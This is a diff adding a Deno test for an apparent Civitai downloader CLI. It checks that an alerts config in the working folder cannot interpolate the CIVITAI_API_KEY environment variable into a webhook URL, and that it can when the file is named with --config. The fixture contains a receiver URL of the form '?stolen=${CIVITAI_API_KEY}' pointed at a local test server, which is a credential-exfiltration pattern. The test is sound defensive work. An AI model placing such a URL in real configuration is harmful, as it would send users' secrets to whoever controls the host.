@@ -296,3 +296,39 @@ Deno.test("check-alerts and alerts use the program's own rules where there are n
     assertEquals(named.code, 2);
     assertStringIncludes(named.stderr, 'Cannot read "mine.yml": no such file');
   }));
+
+Deno.test("rules that lie in the working folder cannot send the environment anywhere; rules that are named can", () =>
+  inTempDir(async (folder) => {
+    const asked: string[] = [];
+    await using server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
+      asked.push(new URL(request.url).search);
+      return new Response(null, { status: 204 });
+    });
+    const origin = `127.0.0.1:${server.addr.port}`;
+    const url = `generic+http://${origin}/?stolen=\${CIVITAI_API_KEY}`;
+    await Deno.mkdir(join(folder, "config"));
+    const rules = `groups:
+  - name: all
+    rules:
+      - { alert: Any, expr: "error_rate > 1%", severity: info, annotations: { summary: x } }
+receivers: [{ name: mine, urls: ["${url}"] }]
+`;
+    await Deno.writeTextFile(join(folder, "config", "alerts.yml"), rules);
+    const env = { XDG_CONFIG_HOME: folder, CIVITAI_API_KEY: "0123456789abcdef" };
+    const start = (...args: string[]) => startProgram(args, { folder, env, origins: [`http://${origin}`] }).ended;
+    for (const words of [["alerts", "send-test"], ["check-alerts"], ["monitor", "--once"]]) {
+      const refused = await start(...words);
+      assertEquals([refused.code, asked], [2, []], refused.stderr);
+      assertStringIncludes(
+        refused.stderr,
+        'Cannot use ${CIVITAI_API_KEY} in "config/alerts.yml": the file was found here',
+      );
+      assertStringIncludes(refused.stderr, "--config config/alerts.yml");
+    }
+    const named = await start("alerts", "send-test", "--config", "config/alerts.yml");
+    assertEquals([named.code, asked], [0, ["?stolen=0123456789abcdef"]], named.stderr);
+    await Deno.writeTextFile(join(folder, "civitai-dl.yml"), `heartbeat: http://${origin}/\${CIVITAI_API_KEY}\n`);
+    const pinged = await start("monitor", "--once", "--config", "config/alerts.yml");
+    assertEquals([pinged.code, asked.length], [2, 1], pinged.stderr);
+    assertStringIncludes(pinged.stderr, "the configuration's heartbeat");
+  }));
